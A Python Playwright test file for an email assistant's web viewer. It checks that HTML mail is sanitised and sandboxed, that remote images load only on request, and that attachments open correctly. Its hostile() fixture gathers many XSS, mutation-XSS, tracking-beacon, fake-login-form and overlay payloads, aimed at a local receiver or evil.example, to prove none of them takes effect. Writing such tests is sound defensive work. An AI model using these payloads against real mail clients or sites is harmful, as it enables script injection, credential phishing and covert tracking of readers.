"""A mail as it was sent: what its HTML tries comes to nothing, and its pictures come when they are asked for."""

import asyncio
import base64
import json
import re
from datetime import UTC, datetime
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Frame

from email_assistant.inbox.items import Item
from email_assistant.mail.rich import Rich
from email_assistant.web.pages import body
from tests.browser.conftest import Open, Visit
from tests.doubles.google import Google
from tests.doubles.receiver import Receiver
from tests.integration.test_api import ADA, BOB, Home

pytestmark = pytest.mark.asyncio(loop_scope="session")

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC"
)
SECRET = "the words of the mail"


def hostile(elsewhere: str) -> str:
    """A mail that tries everything at the server `elsewhere`."""
    own = "top.document.title = 'owned'"
    return f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={elsewhere}/refresh"><base href="{elsewhere}/base/">
<link rel="stylesheet" href="{elsewhere}/sheet"><link rel="prefetch" href="{elsewhere}/prefetch">
<link rel="dns-prefetch" href="{elsewhere}"><link rel="preconnect" href="{elsewhere}">
<link rel="prerender" href="{elsewhere}/prerender"><link rel="icon" href="{elsewhere}/icon">
<link rel="manifest" href="{elsewhere}/manifest"><script src="{elsewhere}/script"></script><script>{own}</script>
<style>@import url({elsewhere}/import); body {{ background: url({elsewhere}/css) }}
@font-face {{ font-family: f; src: url({elsewhere}/font) }} * {{ font-family: f }}
.over {{ position: fixed; inset: 0; z-index: 9999 }}</style></head>
<body background="{elsewhere}/body" onload="{own}" style="background-image: url({elsewhere}/inline)">
<p>{SECRET}</p>
<img src="{elsewhere}/beacon" srcset="{elsewhere}/set 2x" onerror="{own}" width="40" height="40" alt="a beacon">
<img src="{elsewhere}/pixel" width="1" height="1" alt="not to be seen">
<img src="cid:nothing" lowsrc="{elsewhere}/low" dynsrc="{elsewhere}/dyn" longdesc="{elsewhere}/long">
<picture><source srcset="{elsewhere}/source"><img src="data:image/svg+xml,<svg onload=alert(1)>"></picture>
<a id="js" href="javascript:{own}">one</a> <a href="jAvA&#9;script:{own}">two</a>
<a href="data:text/html,<script>{own}</script>">three</a> <a href="vbscript:{own}">four</a>
<a href="//evil.example/relative">five</a> <a href="/items">six</a> <a href="file:///etc/passwd">seven</a>
<a href="{elsewhere}/link" ping="{elsewhere}/ping" target="_top" onclick="{own}">bank.example</a>
<form action="{elsewhere}/form" id="f"><input name="password" type="password" autofocus onfocus="{own}">
<input type="image" src="{elsewhere}/input"><button formaction="javascript:{own}">Log in</button></form>
<iframe src="{elsewhere}/frame" srcdoc="<script>{own}</script>"></iframe><frameset onload="{own}"></frameset>
<object data="{elsewhere}/object"><param name="movie" value="{elsewhere}/param"></object><embed src="{elsewhere}/embed">
<applet code="{elsewhere}/applet"></applet><portal src="{elsewhere}/portal"></portal><fencedframe></fencedframe>
<svg onload="{own}"><script>{own}</script><image href="{elsewhere}/image" xlink:href="{elsewhere}/xlink"/>
<use href="{elsewhere}/use#x"/><animate onbegin="{own}" attributeName="x"/><foreignObject>
<iframe src="{elsewhere}/x"></iframe></foreignObject>
<style><img src="{elsewhere}/in-style" onerror="{own}"></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={own}&gt;"></table></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror="{own}"></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={own} src>">
<noscript><p title="</noscript><img src=x onerror={own}>"></noscript>
<template shadowrootmode="open"><img src="{elsewhere}/shadow"></template><xmp><img src=x onerror={own}></xmp>
<video src="{elsewhere}/video" poster="{elsewhere}/poster" autoplay></video>
<audio src="{elsewhere}/audio" autoplay></audio>
<table background="{elsewhere}/table"><tr><td background="{elsewhere}/td" style="background:url('{elsewhere}/td2')">t
</td></tr></table>
<div class="over" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">over
</div>
<div style="position:absolute;margin-top:-500px;transform:scale(50);color:expression({own})">moved</div>
<div style="width: 10px; background:\\75rl({elsewhere}/escaped); list-style: url({elsewhere}/list); cursor:
url({elsewhere}/cursor), auto; content: url({elsewhere}/content); border-image: url({elsewhere}/border);
filter: url({elsewhere}/filter); mask: url({elsewhere}/mask); behavior: url({elsewhere}/htc)">styled</div>
<blockquote type="cite">older words</blockquote>
<img src="{elsewhere}/giant" width="99999" height="99999"><table width="99999"><tr><td>{"wide" * 3000}</td></tr></table>
<p style="width:99999px;min-width:99999px">\u202e{elsewhere}/reversed\u202c \u2066\u200e</p><pre>{"-" * 3000}</pre>
<marquee onstart="{own}">m</marquee><details open ontoggle="{own}"><summary>s</summary></details>
<bgsound src="{elsewhere}/b">
</body></html>"""


def letter(html: str, subject: str = "Lunch?") -> EmailMessage:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = BOB, ADA, subject
    mail.set_content("The plain words")
    mail.add_alternative(html, subtype="html")
    return mail


def with_picture(html: str) -> EmailMessage:
    mail = letter(html)
    rich = mail.get_payload(1)
    assert isinstance(rich, EmailMessage)
    rich.add_related(PNG, "image", "png", cid="<chart@example.org>", filename="chart.png")
    return mail


@pytest.fixture
def elsewhere() -> Any:
    with Receiver() as server:
        yield server


@pytest_asyncio.fixture(loop_scope="session")
async def account(home: Home, google: Google, tmp_path: Path) -> Any:
    token = json.loads(google.write_token_file(tmp_path / "token.json").read_text())
    return await home.app.accounts.add(home.app.user_id, ADA, token, datetime.now(UTC))


async def arrived(home: Home, google: Google, account: Any, mail: EmailMessage) -> Item:
    mail_id = google.deliver_raw(mail.as_bytes())
    _, _, run = await home.mail(account.id, id=mail_id)
    return await home.ask(run, body="The plain words")


async def frame(v: Visit) -> Frame:
    await v.page.locator("iframe.rich").wait_for()
    element = await v.page.locator("iframe.rich").element_handle()
    assert element is not None
    found = await element.content_frame()
    assert found is not None
    await found.wait_for_load_state()
    await found.locator("body").wait_for(state="attached")
    return found


async def test_nothing_of_hostile_html_is_alive(
    home: Home, visit: Open, google: Google, account: Any, elsewhere: Receiver
) -> None:
    item = await arrived(home, google, account, letter(hostile(elsewhere.url)))
    async with visit() as v:
        asked: list[str] = []
        v.page.context.on("request", lambda request: asked.append(request.url))
        await v.go(f"/items/{item.id}")
        rich = await frame(v)
        assert SECRET in await rich.locator("body").inner_text()
        tags = set(await rich.locator("body *").evaluate_all("all => all.map(each => each.localName)"))
        assert not tags & {
            *("script", "style", "link", "meta", "base", "form", "input", "button", "iframe", "object", "embed"),
            *("svg", "math", "video", "audio", "picture", "source", "template", "img", "portal", "marquee"),
        }
        names = await rich.locator("body *").evaluate_all("all => all.flatMap(each => each.getAttributeNames())")
        assert set(names) <= {"style", "href", "target", "rel", "class", "width", "height", "align", "alt", "open"}
        styles = " ".join(await rich.locator("[style]").evaluate_all("all => all.map(e => e.getAttribute('style'))"))
        assert not re.search(r"url|position|z-index|-\d|\\|expression|transform|@", styles)
        positions = await rich.locator("body *").evaluate_all("all => all.map(e => getComputedStyle(e).position)")
        assert set(positions) == {"static"}
        # Every link that is left opens elsewhere, by itself, and says where.
        links = await rich.locator("a[href]").evaluate_all(
            "all => all.map(e => [e.href, e.target, e.rel, e.innerText])"
        )
        host = elsewhere.url.removeprefix("http://").rpartition(":")[0]
        assert [link[0] for link in links] == [f"{elsewhere.url}/link"]
        assert links[0][1:3] == ["_blank", "noopener noreferrer nofollow"]
        assert (await rich.locator("a[href] + .host").inner_text()).strip() == host
        await v.page.wait_for_load_state("networkidle")
        assert "owned" not in await v.page.title()
        # No word of the mail stands outside the sandbox.
        whole = await v.page.evaluate("document.documentElement.outerHTML")
        assert SECRET not in whole
        assert "older words" not in whole
        assert await v.page.locator("iframe").count() == 1
        assert all(url.startswith(v.root) for url in asked), asked
        assert v.elsewhere == []
        # A beacon that the browser refused by policy would complain: nothing tried.
        assert v.complaints == []
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", await rich.locator("body").inner_text())
        # However wide it is, it stays within its frame, and the frame within the page.
        for width in (1280, 360):
            await v.page.set_viewport_size({"width": width, "height": 800})
            excess = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
            assert await v.page.evaluate(excess) == 0
            box = await v.page.locator("iframe.rich").bounding_box()
            assert box
            assert box["height"] <= 720
    assert elsewhere.deliveries == []


async def test_nobody_is_so_much_as_connected_to(home: Home, visit: Open, google: Google, account: Any) -> None:
    """Before a request there is a connection, which tells as much; so what listens here takes connections."""
    connected: list[object] = []

    async def take(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        connected.append(writer.get_extra_info("peername"))
        writer.close()

    async with await asyncio.start_server(take, "127.0.0.1", 0) as server:
        host, port = server.sockets[0].getsockname()
        item = await arrived(home, google, account, letter(hostile(f"http://{host}:{port}")))
        async with visit() as v:
            await v.go(f"/items/{item.id}")
            await frame(v)
            await v.page.get_by_role("link", name=re.compile("^Show")).last.click()
            await v.page.wait_for_load_state("networkidle")
        assert connected == []


async def test_the_frame_is_about_as_high_as_its_mail(home: Home, visit: Open, google: Google, account: Any) -> None:
    heights = []
    for lines in (1, 12, 500):
        item = await arrived(home, google, account, letter("<p>A line of it</p>" * lines))
        async with visit() as v:
            await v.go(f"/items/{item.id}")
            await frame(v)
            box = await v.page.locator("iframe.rich").bounding_box()
            assert box
            heights.append(box["height"])
    assert heights == sorted(heights)
    assert heights[0] < 150 < heights[1] < 400 < heights[2] < 750


async def test_the_sandbox_holds_whatever_the_sanitiser_lets_through(
    home: Home, visit: Open, google: Google, account: Any, elsewhere: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same mail without the sanitiser: the browser alone keeps it from everything."""
    monkeypatch.setattr(body, "sanitised", lambda html, pictures=None: Rich(html, (), ()))
    item = await arrived(home, google, account, letter(hostile(elsewhere.url)))
    async with visit() as v:
        asked: list[str] = []
        v.page.context.on("request", lambda request: asked.append(request.url))
        await v.go(f"/items/{item.id}")
        await v.page.locator("iframe.rich").wait_for()
        await v.page.wait_for_load_state("networkidle")
        assert "owned" not in await v.page.title()
        refused = [text for text in v.complaints if "Content Security Policy" in text or "sandbox" in text]
        assert len(refused) > 5
        assert v.elsewhere == []
    assert elsewhere.deliveries == []


async def test_plain_text_is_one_click_away_and_stays_where_there_is_no_html(
    home: Home, visit: Open, google: Google, account: Any
) -> None:
    item = await arrived(home, google, account, letter("<p>The <b>rich</b> words</p>"))
    bare = EmailMessage()
    bare["From"], bare["To"], bare["Subject"] = BOB, ADA, "Lunch?"
    bare.set_content("Only words")
    other = await arrived(home, google, account, bare)
    async with visit() as v:
        await v.go(f"/items/{item.id}")
        assert "rich" in await (await frame(v)).locator("b").inner_text()
        text = v.page.locator(".mail .its-text")
        assert not await text.is_visible()
        await v.page.get_by_label("Plain text").check()
        assert await text.is_visible()
        assert not await v.page.locator("iframe.rich").is_visible()
        await v.go(f"/items/{other.id}")
        await v.page.locator("#body:not([data-load])").wait_for(state="attached")
        assert await text.is_visible()
        assert await v.page.locator("iframe").count() == 0


async def test_it_is_there_without_scripts(home: Home, visit: Open, google: Google, account: Any) -> None:
    item = await arrived(home, google, account, letter("<p>The <b>rich</b> words</p>"))
    async with visit(scripts=False) as v:
        await v.go(f"/items/{item.id}")
        assert await v.page.locator("iframe").count() == 0
        await v.page.get_by_role("link", name="The mail as it was sent").click()
        assert "rich" in await v.page.frame_locator("iframe.rich").locator("b").inner_text()


async def test_quoted_text_is_folded_in_both(home: Home, visit: Open, google: Google, account: Any) -> None:
    html = '<p>New</p><div class="gmail_quote">On Monday Ada wrote:<blockquote>Old</blockquote></div>'
    item = await arrived(home, google, account, letter(html))
    long = "Yes.\n\nOn Monday Ada wrote:\n> Old one\n> Old two\n> Old three\n\nBob"
    await home.execute("update inbox_items set mail_text = %s", long)
    async with visit() as v:
        await v.go(f"/items/{item.id}")
        rich = await frame(v)
        assert not await rich.get_by_text("Old").is_visible()
        await rich.get_by_text("Quoted text").click()
        assert await rich.get_by_text("Old").is_visible()


async def test_pictures_come_on_a_click_and_what_spies_is_left_out(
    home: Home, visit: Open, google: Google, account: Any, elsewhere: Receiver
) -> None:
    html = (
        '<p>See <img src="cid:chart@example.org" alt="the chart" width="10"></p>'
        f'<img src="{elsewhere.url}/far.png" alt="far away"><img src="{elsewhere.url}/pixel" width="1" height="1">'
    )
    item = await arrived(home, google, account, with_picture(html))
    async with visit() as v:
        asked: list[str] = []
        v.page.context.on("request", lambda request: asked.append(request.url))
        await v.go(f"/items/{item.id}")
        rich = await frame(v)
        assert await rich.locator("img").count() == 0
        assert "the chart" in await rich.locator("body").inner_text()
        await v.page.get_by_role("link", name="Show 2 pictures").click()
        chart = rich.locator("img")
        await chart.wait_for()
        assert await chart.evaluate("image => image.naturalWidth") == 10
        # The other one stands on this machine, where no mail may look.
        assert await chart.count() == 1
        assert await v.page.get_by_role("link", name="Show all, with 1 hidden").count() == 1
        assert all(url.startswith((v.root, "data:")) for url in asked), asked
        assert v.elsewhere == []
    assert elsewhere.deliveries == []


async def test_a_picture_among_the_files_opens_by_itself(home: Home, visit: Open, google: Google, account: Any) -> None:
    mail = letter("<p>See")
    mail.add_attachment(PNG, "image", "png", filename="chart.png")
    item = await arrived(home, google, account, mail)
    async with visit() as v:
        await v.go(f"/items/{item.id}")
        async with v.page.context.expect_page() as opened:
            await v.page.get_by_role("link", name="Open", exact=True).click()
        picture = (await opened.value).locator("img")
        assert await picture.evaluate("image => image.naturalWidth") == 10
        async with v.page.expect_download() as kept:
            await v.page.get_by_role("link", name="chart.png").click()
        assert (await kept.value).suggested_filename == "chart.png"
        assert v.complaints == []
